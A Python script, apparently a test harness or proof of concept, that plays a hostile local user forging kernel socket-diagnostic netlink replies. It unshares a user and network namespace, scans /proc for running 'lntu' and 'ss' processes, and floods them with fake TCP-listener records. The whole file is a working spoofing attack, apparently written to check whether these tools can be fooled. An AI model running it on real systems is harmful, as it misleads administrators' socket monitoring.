"""Another user, who sends forged answers of the kernel to every lntu and ss.

It owns a network namespace, as any user may, and so has CAP_NET_ADMIN over it. The kernel
gives a netlink socket the id of its process as its port, so these are what it sends to.

Once it has proved that its datagrams reach an unconnected socket, it prints a line. It
sends until its stdin ends, and then prints how many datagrams it tried to send.
"""

import ctypes
import os
import select
import socket
import struct
import sys

NETLINK_SOCK_DIAG = 4
NLMSG_DONE = 3
NLM_F_MULTI = 2
SOCK_DIAG_BY_FAMILY = 20
TCPDIAG_GETSOCK = 18
TCP_LISTEN = 10
CLONE_NEWUSER = 0x10000000
CLONE_NEWNET = 0x40000000

NOBODY = 65534
os.setgroups([])
os.setgid(NOBODY)
os.setuid(NOBODY)
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
    print("unshare:", os.strerror(ctypes.get_errno()), flush=True)
    sys.exit()


def message(kind, sequence, body):
    return struct.pack("=IHHII", 16 + len(body), kind, NLM_F_MULTI, sequence, 0) + body


def listener(port):
    """The struct inet_diag_msg of a TCP listener."""
    ports = struct.pack("!HH", port, 0)
    return bytes([socket.AF_INET, TCP_LISTEN, 0, 0]) + ports + bytes(64)


rows = [listener(port) for port in range(1, 301)]
forged = []
# A watcher opens a socket for each poll, so the numbers of its requests are low.
for sequence in range(1, 5):
    end = message(NLMSG_DONE, sequence, bytes(4))
    for kind in (SOCK_DIAG_BY_FAMILY, TCPDIAG_GETSOCK):
        one = message(kind, sequence, rows[6])
        many = b"".join(message(kind, sequence, row) for row in rows)
        forged += [end, one + end, many]

sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG)
victim = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG)
victim.bind((0, 0))
sender.sendto(forged[1], victim.getsockname())
assert victim.recv(65536) == forged[1]
victim.close()
print("forging", flush=True)


def victims():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as name:
                if name.read() in ("lntu\n", "ss\n"):
                    yield int(pid)
        except OSError:
            pass


tried = 0
while not select.select([sys.stdin], [], [], 0)[0]:
    ports = list(victims())
    for datagram in forged * 20:
        for port in ports:
            tried += 1
            try:
                sender.sendto(datagram, socket.MSG_DONTWAIT, (port, 0))
            except OSError:
                pass
print(tried, flush=True)
